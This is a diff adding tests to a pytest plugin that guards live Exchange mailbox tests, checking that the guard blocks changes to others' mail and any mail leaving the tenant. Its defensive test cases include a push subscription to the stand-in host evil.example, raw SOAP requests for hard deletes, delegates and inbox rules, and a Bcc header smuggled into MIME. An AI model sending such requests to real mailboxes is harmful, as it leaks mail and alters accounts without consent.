@@ -1,12 +1,14 @@
 """exchangelib in a live test: others' items and folders are left alone, and mail stays inside."""
 
 from collections.abc import Iterator
+from email.message import EmailMessage
 from typing import Any
 
 import exchangelib
 import pytest
 
 from pytest_m365 import clients
+from pytest_m365.live.ews_rules import MESSAGES, SOAP, TYPES, Rules
 from pytest_m365.live.guard import Guard, NotAllowed
 from pytest_m365.live.guarded_ews import guard_account
 from tests.plugin.live.test_guarded import Folders
@@ -70,6 +72,141 @@ def read(item: Any) -> None:
     """Mark an item as read."""
     item.is_read = True
     item.save(update_fields=["is_read"])
+
+
+def push(account: Any) -> None:
+    """Let the service tell another host what happens in the mailbox."""
+    with account.inbox.push_subscription(callback_url="https://evil.example"):
+        pass
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        lambda account: account.inbox.get(subject="Theirs").reply("Re", "text"),
+        lambda account: account.inbox.get(subject="Theirs").forward(
+            "Fw", "text", to_recipients=[account.primary_smtp_address]
+        ),
+        # It is the test's own, from somebody outside.
+        lambda account: account.inbox.get(subject="Ours").reply("Re", "text"),
+        lambda account: account.inbox.get(subject="Ours").create_reply("Re", "text").save(account.drafts),
+        lambda account: account.inbox.get(subject="Ours").mark_as_junk(is_junk=True, move_item=False),
+        lambda account: account.inbox.get(subject="Theirs").mark_as_junk(is_junk=True, move_item=True),
+        lambda account: account.inbox.get(subject="Theirs").archive(account.trash),
+        lambda account: account.inbox.move(account.trash),
+        lambda account: setattr(
+            account, "oof_settings", exchangelib.OofSettings(state="Enabled", internal_reply="a", external_reply="b")
+        ),
+        lambda account: account.upload([(account.inbox, "AAAA")]),
+        lambda account: exchangelib.CalendarItem(
+            account=account,
+            folder=account.calendar,
+            subject="Out",
+            start=exchangelib.EWSDateTime(2026, 11, 30, 8, tzinfo=exchangelib.UTC),
+            end=exchangelib.EWSDateTime(2026, 11, 30, 9, tzinfo=exchangelib.UTC),
+            required_attendees=["boss@fabrikam.com"],
+        ).save(send_meeting_invitations="SendToAllAndSaveCopy"),
+        lambda account: exchangelib.Contact(account=account, folder=account.contacts, display_name="Left").save(),
+        lambda account: exchangelib.Message(account=account, folder=account.drafts, subject="Left").save(),
+        lambda account: account.inbox.create_user_configuration("Left", dictionary={"a": "b"}),
+        lambda account: exchangelib.folders.Calendar(parent=account.msg_folder_root, name="Left").save(),
+        lambda account: exchangelib.folders.Folder(parent=account.inbox, name="A/B").save(),
+        push,
+    ],
+)
+def test_ways_that_few_know(account: Any, twin: Twin, change: Any) -> None:
+    with pytest.raises(NotAllowed):
+        change(account)
+    assert subjects(twin) == ["Ours", "Theirs"]
+    assert not any(each.flags.seen or each.flags.answered for each in twin.mailbox.messages())
+    assert [*subjects(twin, "drafts"), *subjects(twin, "sentitems"), *twin.tenant.outbound] == []
+    assert account.inbox.filter(subject="Theirs").count() == 1
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        '<m:DeleteItem DeleteType="HardDelete"><m:ItemIds><t:OccurrenceItemId RecurringMasterId="AAA=" '
+        'InstanceIndex="1"/></m:ItemIds></m:DeleteItem>',
+        '<m:DeleteItem DeleteType="HardDelete"><m:ItemIds/></m:DeleteItem>',
+        '<m:DeleteAttachment><m:AttachmentIds><t:AttachmentId Id="AAA="/></m:AttachmentIds></m:DeleteAttachment>',
+        '<m:CopyFolder><m:ToFolderId><t:DistinguishedFolderId Id="drafts"/></m:ToFolderId><m:FolderIds>'
+        '<t:DistinguishedFolderId Id="inbox"/></m:FolderIds></m:CopyFolder>',
+        '<m:ApplyConversationAction><m:ConversationActions/></m:ApplyConversationAction>',
+        "<m:AddDelegate/>",
+        "<m:UpdateInboxRules/>",
+        "<m:WhatComesNext/>",
+        '<m:CreateItem MessageDisposition="SendOnly"><m:Items><t:Message><t:ToRecipients><t:Mailbox><t:Name>Everybody'
+        '</t:Name><t:ItemId Id="AAA="/></t:Mailbox></t:ToRecipients></t:Message></m:Items></m:CreateItem>',
+        '<m:CreateItem MessageDisposition="SendOnly"><m:Items><t:Message><t:MimeContent>not base64</t:MimeContent>'
+        '</t:Message></m:Items></m:CreateItem>',
+        '<m:CreateFolder><m:ParentFolderId><t:DistinguishedFolderId Id="inbox"><t:Mailbox><t:EmailAddress>'
+        "boss@contoso.onmicrosoft.com</t:EmailAddress></t:Mailbox></t:DistinguishedFolderId></m:ParentFolderId>"
+        "<m:Folders><t:Folder><t:DisplayName>Mine</t:DisplayName></t:Folder></m:Folders></m:CreateFolder>",
+    ],
+)  # fmt: skip
+def test_requests_that_exchangelib_does_not_make(folders: Folders, body: str) -> None:
+    rules = Rules(TAG, "alice@contoso.onmicrosoft.com", Guard(frozenset(), frozenset(), frozenset()),
+                  {"contoso.onmicrosoft.com"}, folders)  # fmt: skip
+    envelope = (
+        f'<s:Envelope xmlns:s="{SOAP[1:-1]}" xmlns:m="{MESSAGES[1:-1]}" xmlns:t="{TYPES[1:-1]}">'
+        f"<s:Body>{body}</s:Body></s:Envelope>"
+    ).encode()
+
+    def ask() -> None:
+        rules.check(envelope)
+        rules.items_of(envelope)
+
+    with pytest.raises(NotAllowed):
+        ask()
+    assert folders.noted == []
+
+
+def test_a_draft_that_leads_outside_is_not_sent(account: Any, twin: Twin) -> None:
+    """Another client has put it there."""
+    twin.mailbox.deliver(message("Out", to="boss@fabrikam.com"), folder="drafts")
+    with pytest.raises(NotAllowed, match=r"no mail is sent to boss@fabrikam\.com"):
+        account.drafts.get(subject="Out").send()
+    assert twin.tenant.outbound == []
+
+
+def test_attachments(account: Any, twin: Twin) -> None:
+    whole = EmailMessage()
+    whole["Subject"], whole["From"], whole["To"] = "Theirs, whole", "robin@example.com", "somebody@example.com"
+    whole.add_attachment(b"a", maintype="text", subtype="plain", filename="a.txt")
+    twin.mailbox.deliver(whole)
+    theirs = account.inbox.get(subject="Theirs, whole")
+    with pytest.raises(NotAllowed):
+        theirs.detach(theirs.attachments[0])
+    assert len(account.inbox.get(subject="Theirs, whole").attachments) == 1
+    ours = account.inbox.get(subject="Ours")
+    ours.attach(exchangelib.FileAttachment(name="a.txt", content=b"a"))
+    ours.detach(ours.attachments[0])
+    assert account.inbox.get(subject="Ours").attachments == []
+
+
+def test_bcc_in_mime(account: Any, twin: Twin) -> None:
+    mime = b"Bcc: boss@fabrikam.com\r\n" + message("Out", to=TAG.address(twin.user))
+    with pytest.raises(NotAllowed, match=r"no mail is sent to boss@fabrikam\.com"):
+        exchangelib.Message(account=account, folder=account.sent, mime_content=mime).send_and_save()
+    assert twin.tenant.outbound == []
+
+
+def test_an_answer_to_ones_own(account: Any, twin: Twin) -> None:
+    twin.mailbox.deliver(message("Inside", to=TAG.address(twin.user), sender=twin.user))
+    # It is let through, to a fake that does not answer mail.
+    with pytest.raises(exchangelib.errors.ErrorInvalidOperation, match="ReplyToItem"):
+        account.inbox.get(subject="Inside").reply("Re: Inside", "text")
+
+
+def test_a_folder_of_another_name(account: Any, folders: Folders) -> None:
+    made = exchangelib.folders.Folder(parent=account.inbox, name="Mine")
+    made.save()
+    made.name = "Renamed"
+    made.save(update_fields=["name"])
+    below = exchangelib.folders.Folder(parent=made, name="Below")
+    below.save()
+    assert folders.noted == ["Inbox/Mine", "Inbox/Renamed", "Inbox/Renamed/Below"]
 
 
 def test_ones_own_is_ones_own(account: Any, twin: Twin) -> None:
